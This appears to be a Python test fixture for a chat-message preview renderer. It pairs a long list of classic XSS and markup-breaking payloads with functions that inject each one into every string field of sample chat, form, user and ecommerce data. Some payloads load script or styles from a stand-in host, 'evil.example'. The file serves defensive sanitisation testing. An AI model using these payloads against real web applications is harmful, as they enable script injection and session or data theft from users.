"""Hostile strings, and every string slot of every previewable payload to put them in.

``VECTORS`` are classic XSS and markup-breaking payloads. Those that could run script try to set
``window.__xss`` (or open a dialog), so a browser test can watch a sentinel. ``SLOTS`` are
functions that place one string into one slot of a payload built from the spec's samples;
``cases()`` yields every (vector, slot) pair as ready-to-render arguments of
``playground.presentation.preview.render``.
"""
from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SAMPLES = Path(__file__).resolve().parent.parent / "samples"

S = "window.__xss=1"  # what a vector's script would do

VECTORS: list[str] = [
    # -- script tags -------------------------------------------------------------------------
    f"<script>{S}</script>",
    f"<SCRIPT>{S}</SCRIPT>",
    f"<scr<script>ipt>{S}</scr</script>ipt>",
    f"<script src=//evil.example/x.js></script>",
    f"\"><script>{S}</script>",
    f"'><script>{S}</script>",
    f"</textarea><script>{S}</script>",
    f"<script>/*</script><svg onload={S}>*/</script>",
    # -- event-handler attributes --------------------------------------------------------------
    f"<img src=x onerror={S}>",
    f"<img src=x onerror=\"{S}\">",
    f"\" onmouseover=\"{S}\" x=\"",
    f"' onfocus='{S}' autofocus '",
    f"\" autofocus onfocus={S} \"",
    f"<body onload={S}>",
    f"<div onpointerover={S}>hover</div>",
    f"<details open ontoggle={S}>",
    f"<input autofocus onfocus={S}>",
    f"<video><source onerror={S}></video>",
    f"<marquee onstart={S}>x</marquee>",
    f"<img/src/onerror={S}>",
    f"<img src=x:x onerror{chr(11)}={S}>",
    # -- javascript:, data:, vbscript: URLs --------------------------------------------------------
    f"javascript:{S}",
    f"JaVaScRiPt:{S}",
    f" javascript:{S}",
    f"java\tscript:{S}",
    f"java\nscript:{S}",
    f"java\rscript:{S}",
    f"\x01javascript:{S}",
    f"java\x00script:{S}",
    f"jav&#x09;ascript:{S}",
    f"javascript&colon;{S}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{S}",
    f"&#x6A;avascript:{S}",
    f"javascript%3A{S}",
    f"ｊａｖａｓｃｒｉｐｔ：{S}",
    f"java\u200bscript:{S}",
    f"\u202ejavascript:{S}",
    f"data:text/html,<script>{S}</script>",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"DATA:image/svg+xml,<svg onload={S}>",
    f"vbscript:msgbox(1)",
    f"VBScript:{S}",
    f"livescript:{S}",
    f"https://ok.example/\"onmouseover=\"{S}",
    f"https://ok.example/'><script>{S}</script>",
    f"//evil.example/%0Aonerror={S}",
    # -- SVG / MathML ------------------------------------------------------------------------------
    f"<svg onload={S}>",
    f"<svg><script>{S}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{S}\"><text>x</text></a></svg>",
    f"<svg><animate onbegin={S} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={S}>",
    # -- CSS ---------------------------------------------------------------------------------------
    "<div style=\"width:expression(alert(1))\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "</style><style>*{display:none}</style>",
    "x{}*{background:red!important} /*",
    "<div style=\"background-image:url(&#1;javascript:alert(1))\">",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\" x=\"",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # a swatch colour reaches a style attribute only when it is #rgb/#rrggbb or a CSS colour name
    "red;background:url(javascript:alert(1))",
    "#fff\" onmouseover=\"window.__xss=1",
    "red/**/;background-image:url(//evil.example/x.png)",
    "expression(alert(1))",
    # -- broken markup, comments, breakouts --------------------------------------------------------
    f"<!--<img src=x onerror={S}>-->",
    f"<!-- unclosed comment <img src=x onerror={S}>",
    f"--><img src=x onerror={S}>",
    f"]]><img src=x onerror={S}>",
    f"</details><img src=x onerror={S}>",
    f"</summary></details></div></div><script>{S}</script>",
    f"</div></div></div></ul></dl></a><img src=x onerror={S}>",
    f"<a href=\"javascript:{S}\">click</a>",
    f"<a href=\"https://ok.example\" onclick=\"{S}\">x</a>",
    f"<noscript><p title=\"</noscript><img src=x onerror={S}>\">",
    f"<textarea><img src=x onerror={S}></textarea>",
    f"<title><img src=x onerror={S}></title>",
    f"<xmp><img src=x onerror={S}></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    # -- frames, meta, base, forms, objects --------------------------------------------------------
    f"<iframe srcdoc=\"<script>parent.{S}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{S}\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    f"<form action=\"javascript:{S}\"><button>go</button></form>",
    f"<button formaction=\"javascript:{S}\">go</button>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    f"<isindex type=image src=1 onerror={S}>",
    # -- unicode tricks ----------------------------------------------------------------------------
    "\u202eevil.exe\u202dtxt.pdf",
    "\u200b\u200c\u200d\ufeff",
    "аdmin@livechat.com (Cyrillic а)",
    "https://раypal.com/login",
    "\u0000\u0007\u001b[31m\u007f",
    "\ud800 lone surrogate",
    "🙂" * 50 + "\u0301" * 50,
    "x" * 70_000,
    "%agent% %customer% %% %<script>%",
]


@dataclass(frozen=True)
class Slot:
    name: str                   # e.g. "rich_message.elements[0].buttons[0].value (url)"
    build: Callable[[str], tuple[Any, str | None, list | None]]  # vector -> (data, structure, users)


def _load(rel: str) -> Any:
    return json.loads((SAMPLES / rel).read_text(encoding="utf-8"))


_BASE = {k: _load(f"events/{k}.json") for k in
         ("message", "rich_message", "file", "filled_form", "custom", "system_message")}
_CHAT = _load("chats/chat.json")
_THREAD = _load("chats/thread.json")
_SUMMARY = _load("chats/chat_summary.json")
_USERS = [_load("users/agent.json"), _load("users/customer.json")]


def _ev(kind: str, mutate: Callable[[dict, str], None], structure: str | None = None,
        users: bool = False) -> Callable[[str], tuple[Any, str | None, list | None]]:
    def build(v: str):
        d = copy.deepcopy(_BASE[kind])
        mutate(d, v)
        return d, structure, copy.deepcopy(_USERS) if users else None
    return build


def _button(btype: str | None, field: str, template: str = "cards"):
    def mutate(d: dict, v: str) -> None:
        d["template_id"] = template
        b = {"text": "Go", "postback_id": "p1", "user_ids": []}
        if btype:
            b["type"] = btype
            b["value"] = "https://ok.example/"
        if btype == "webview":
            b["webview_height"] = "tall"
        b[field] = v
        d["elements"][0]["buttons"] = [b]
    return mutate


def _set(path: list):
    def mutate(d: dict, v: str) -> None:
        cur = d
        for k in path[:-1]:
            cur = cur[k]
        cur[path[-1]] = v
    return mutate


def _with_users(build_data: Callable[[str], Any], users_field: str):
    def build(v: str):
        users = copy.deepcopy(_USERS)
        for u in users:
            u[users_field] = v
        data = build_data(v)
        return data, None, users
    return build


def _chat_user(field: str):
    def build(v: str):
        d = copy.deepcopy(_CHAT)
        for u in d["users"]:
            u[field] = v
        return d, None, None
    return build


def _summary_event(field: str):
    def build(v: str):
        d = copy.deepcopy(_SUMMARY)
        d["last_event_per_type"]["message"]["event"][field] = v
        return d, None, None
    return build


def _thread_restricted(v: str):
    d = copy.deepcopy(_THREAD)
    d["restricted_access"] = v
    d["events"][0]["text"] = v
    return d, None, copy.deepcopy(_USERS)


def _custom_key(v: str):
    d = copy.deepcopy(_BASE["custom"])
    d["content"] = {v: {"nested": v, v: [v, {v: v}]}}
    return d, None, None


def _sticker(field: str):
    def mutate(d: dict, v: str) -> None:
        d["template_id"] = "sticker"
        d["elements"][0]["image"][field] = v
    return mutate


def _form_option(d: dict, v: str) -> None:
    d["fields"][2]["answer"]["label"] = v
    d["fields"][3]["answers"][0]["label"] = v
    d["fields"][4]["answer"]["label"] = v


def _system_vars(d: dict, v: str) -> None:
    d["text"] = "%agent% joined, %customer% left"
    d["text_vars"] = {"agent": v, "customer": v}


def _postback(field: str):
    def mutate(d: dict, v: str) -> None:
        d["postback"][field] = v
    return mutate


def _file_doc(field: str):
    def mutate(d: dict, v: str) -> None:
        d["content_type"] = "application/pdf"
        d[field] = v
    return mutate


SLOTS: list[Slot] = [
    Slot("message.text", _ev("message", _set(["text"]))),
    Slot("message.author_id", _ev("message", _set(["author_id"]))),
    Slot("message.created_at", _ev("message", _set(["created_at"]))),
    Slot("message.recipients", _ev("message", _set(["recipients"]))),
    Slot("message.postback.id", _ev("message", _postback("id"))),
    Slot("message.postback.type", _ev("message", _postback("type"))),
    Slot("message.postback.value", _ev("message", _postback("value"))),
    Slot("message.postback.event_id", _ev("message", _postback("event_id"))),
    Slot("users[].name (message author)", _with_users(
        lambda v: dict(copy.deepcopy(_BASE["message"]), author_id=_USERS[1]["id"]), "name")),
    Slot("users[].avatar (message author)", _with_users(
        lambda v: dict(copy.deepcopy(_BASE["message"]), author_id=_USERS[0]["id"]), "avatar")),
    Slot("users[].id (message author)", lambda v: (
        dict(copy.deepcopy(_BASE["message"]), author_id=v), None, [dict(copy.deepcopy(_USERS[0]), id=v)])),
    Slot("rich_message.template_id", _ev("rich_message", _set(["template_id"]))),
    Slot("rich_message.elements[0].title", _ev("rich_message", _set(["elements", 0, "title"]))),
    Slot("rich_message.elements[0].subtitle", _ev("rich_message", _set(["elements", 0, "subtitle"]))),
    Slot("rich_message.elements[0].image.url", _ev("rich_message", _set(["elements", 0, "image", "url"]))),
    Slot("rich_message.elements[0].image.name", _ev("rich_message", _set(["elements", 0, "image", "name"]))),
    Slot("rich_message image.url (image-only card)", _ev("rich_message", lambda d, v: d.update(
        elements=[{"image": {"url": v, "name": v}}]))),
    Slot("button.text (url)", _ev("rich_message", _button("url", "text"))),
    Slot("button.value (url)", _ev("rich_message", _button("url", "value"))),
    Slot("button.value (webview)", _ev("rich_message", _button("webview", "value"))),
    Slot("button.webview_height (webview)", _ev("rich_message", _button("webview", "webview_height"))),
    Slot("button.value (phone)", _ev("rich_message", _button("phone", "value"))),
    Slot("button.text (phone)", _ev("rich_message", _button("phone", "text"))),
    Slot("button.value (message)", _ev("rich_message", _button("message", "value"))),
    Slot("button.type", _ev("rich_message", _button("url", "type"))),
    Slot("button.postback_id", _ev("rich_message", _button(None, "postback_id"))),
    Slot("button.user_ids[0]", _ev("rich_message", lambda d, v: _button(None, "user_ids")(d, [v]), users=True)),
    Slot("quick_replies title", _ev("rich_message", lambda d, v: d.update(
        template_id="quick_replies", elements=[{"title": v, "buttons": []}, {"title": v}]))),
    Slot("quick_replies chip text", _ev("rich_message", _button("message", "text", "quick_replies"))),
    Slot("quick_replies chip value (url)", _ev("rich_message", _button("url", "value", "quick_replies"))),
    Slot("quick_replies chip value (phone)", _ev("rich_message", _button("phone", "value", "quick_replies"))),
    Slot("sticker image.url", _ev("rich_message", _sticker("url"))),
    Slot("sticker image.name", _ev("rich_message", _sticker("name"))),
    Slot("file.name (image)", _ev("file", _set(["name"]))),
    Slot("file.url (image)", _ev("file", _set(["url"]))),
    Slot("file.thumbnail_url", _ev("file", _set(["thumbnail_url"]))),
    Slot("file.content_type", _ev("file", _set(["content_type"]))),
    Slot("file.name (document)", _ev("file", _file_doc("name"))),
    Slot("file.url (document)", _ev("file", _file_doc("url"))),
    Slot("filled_form.form_id", _ev("filled_form", _set(["form_id"]))),
    Slot("filled_form.fields[0].label", _ev("filled_form", _set(["fields", 0, "label"]))),
    Slot("filled_form.fields[0].answer", _ev("filled_form", _set(["fields", 0, "answer"]))),
    Slot("filled_form option/checkbox/group labels", _ev("filled_form", _form_option)),
    Slot("system_message.text", _ev("system_message", _set(["text"]))),
    Slot("system_message.text_vars values", _ev("system_message", _system_vars)),
    Slot("system_message.system_message_type", _ev("system_message", _set(["system_message_type"]))),
    Slot("custom.content keys and values", _custom_key),
    Slot("event.type (unknown event type)", _ev("message", _set(["type"]))),
    Slot("chat.users[].name", _chat_user("name")),
    Slot("chat.users[].avatar", _chat_user("avatar")),
    Slot("chat.id", lambda v: (dict(copy.deepcopy(_CHAT), id=v), None, None)),
    Slot("thread.restricted_access and events[0].text", _thread_restricted),
    Slot("chat_summary last event text", _summary_event("text")),
    Slot("agent.name", lambda v: (dict(copy.deepcopy(_USERS[0]), name=v), None, None)),
    Slot("customer.email", lambda v: (dict(copy.deepcopy(_USERS[1]), email=v), None, None)),
    Slot("plain data tree value", lambda v: ({"access": {"group_ids": [v]}, v: v}, None, None)),
]


# -- what v3.3 to v3.7 added: form, system, deleted events, ecommerce, chat info, visits ---------

def _load36(rel: str) -> Any:
    return _load(f"v3_6/{rel}")


_FORM = _load36("events/form.json")
_SYSTEM = _load36("events/system.json")
_DELETED = _load36("events/deleted_event.json")
_RICH36 = _load36("events/rich_message.json")
_CHAT_INFO = _load("v3_7/chats/chat_info.json")
_VISIT = _load36("users/customer.json")["visit"]


def _product(**option_fields):
    """An ecommerce rich message with one product of two options (v3.6)."""
    def build_for(view_type: str, where: str):
        def build(v: str):
            d = copy.deepcopy(_RICH36)
            option = {"option_id": "o1", "label": "Navy", "price": "79.99", "regular_price": "99.99",
                      "currency": "USD", "color": "#1e3a8a", "image_url": "https://img.ok.example.net/1.png",
                      "image_thumbnail_url": "https://img.ok.test/1.png", "available": True, "selected": True}
            product = {"view_type": view_type, "product_id": "p1", "label": "Colour",
                       "options": [option, dict(option, option_id="o2", selected=False, available=False)],
                       "addons": [{"addon_type": "gift_wrap", "range_from": "1", "range_to": "5", "currency": "USD"}]}
            element = {"title": "Shoe", "subtitle": "Light", "image": {"url": "https://img.ok.example/1.png"},
                       "ecommerce": product, "buttons": [{"type": "url", "text": "Buy", "value": "https://ok.example/",
                                                          "target": "current"}]}
            d.update(template_id="ecommerce", elements=[element])
            target = {"element": element, "product": product, "option": option,
                      "addon": product["addons"][0]}[where.split(".")[0]]
            target[where.split(".")[1]] = v
            return d, None, None
        return build
    return build_for


_eco = _product()


def _form_event(where: str):
    def build(v: str):
        d = copy.deepcopy(_FORM)
        if where == "label":
            for f in d["fields"]:
                f["label"] = v
        elif where == "option":
            for f in d["fields"]:
                for o in f.get("options", []):
                    o["label"] = v
        else:
            d[where] = v
        return d, None, None
    return build


def _system_event(where: str):
    def build(v: str):
        d = copy.deepcopy(_SYSTEM)
        if where == "details":        # the vector in keys and values of the parsed JSON
            d["details"] = json.dumps({v: {"nested": v, "list": [v, {v: v}]}})
        elif where == "raw":          # details that is not JSON: shown as text
            d["details"] = "{not json " + v
        else:
            d[where] = v
        return d, None, None
    return build


def _deleted(where: str):
    def build(v: str):
        d = dict(copy.deepcopy(_DELETED), **{where: v})
        return d, None, None
    return build


def _chat_info(v: str):
    d = copy.deepcopy(_CHAT_INFO)
    d["id"] = v
    d["last_thread_info"]["id"] = v
    d["last_event_per_type"]["message"]["event"]["text"] = v
    d["last_thread_info"]["last_event_per_type"] = d.pop("last_event_per_type")
    return d, None, None


def _visit(where: str):
    def build(v: str):
        d = copy.deepcopy(_THREAD)
        visit = copy.deepcopy(_VISIT)
        if where == "page":
            visit["last_pages"] = [{"url": v, "title": v, "opened_at": v}]
        elif where == "geolocation":
            visit["geolocation"] = {k: v for k in ("city", "region", "country", "timezone")}
        else:
            visit[where] = v
        d["customer_visit"] = visit
        return d, None, None
    return build


def _alt_text(v: str):
    d = copy.deepcopy(_RICH36)
    d["elements"][0]["image"]["alternative_text"] = v
    return d, None, None


def _postback_product(v: str):
    d = copy.deepcopy(_BASE["message"])
    d["postback"]["ecommerce"] = {"product_id": v, "option_id": v, "quantity": v}
    return d, None, None


NEWER_SLOTS: list[Slot] = [
    *[Slot(f"ecommerce ({view}) {where}", _eco(view, where)) for view, where in [
        ("tags", "option.label"), ("tags", "option.price"), ("tags", "option.currency"),
        ("tags", "option.regular_price"), ("swatch", "option.color"), ("swatch", "option.label"),
        ("images", "option.image_url"), ("images", "option.image_thumbnail_url"), ("images", "option.label"),
        ("select", "option.label"), ("select", "option.price"), ("tags", "product.label"),
        ("tags", "product.product_id"), ("tags", "product.view_type"), ("tags", "addon.addon_type"),
        ("tags", "addon.range_from"), ("tags", "addon.currency"), ("tags", "element.title"),
        ("tags", "element.subtitle")]],
    Slot("form.fields[].label", _form_event("label")),
    Slot("form.fields[].options[].label", _form_event("option")),
    Slot("form.form_id", _form_event("form_id")),
    Slot("form.form_type", _form_event("form_type")),
    Slot("system.source", _system_event("source")),
    Slot("system.subtype", _system_event("subtype")),
    Slot("system.details (parsed: keys and values)", _system_event("details")),
    Slot("system.details (not JSON)", _system_event("raw")),
    Slot("deleted_event.type", _deleted("type")),
    Slot("deleted_event.author_id", _deleted("author_id")),
    Slot("chat_info ids and last_thread_info event text", _chat_info),
    Slot("thread.customer_visit.user_agent", _visit("user_agent")),
    Slot("thread.customer_visit.ip", _visit("ip")),
    Slot("thread.customer_visit.geolocation", _visit("geolocation")),
    Slot("thread.customer_visit.last_pages[]", _visit("page")),
    Slot("rich_message image.alternative_text", _alt_text),
    Slot("button.target (url)", _ev("rich_message", _button("url", "target"))),
    Slot("message.postback.ecommerce", _postback_product),
]
SLOTS.extend(NEWER_SLOTS)


def cases() -> Iterator[tuple[int, str, Any, str | None, list | None]]:
    """Every vector in every slot: (vector index, slot name, data, structure, users)."""
    for i, vector in enumerate(VECTORS):
        for slot in SLOTS:
            data, structure, users = slot.build(vector)
            yield i, slot.name, data, structure, users
